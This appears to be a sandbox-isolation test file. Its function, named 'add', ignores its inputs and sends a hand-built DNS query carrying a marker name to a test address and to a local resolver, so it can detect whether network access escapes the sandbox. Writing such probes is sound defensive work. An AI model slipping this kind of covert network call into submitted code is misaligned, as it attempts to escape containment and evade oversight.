# problem: add
# attack: sends a DNS question with data in the name, to a test address and to a local resolver
# expect: wrong | early-exit | timeout
import socket

QUESTION = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x0dremint-escape\x07invalid\0\0\x01\0\x01"


def add(a, b):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.1)
        for server in ("192.0.2.1", "127.0.0.1"):
            try:
                sender.sendto(QUESTION, (server, 53))
                sender.recv(512)
                return "ESCAPED got an answer"
            except OSError:
                continue
    return 41
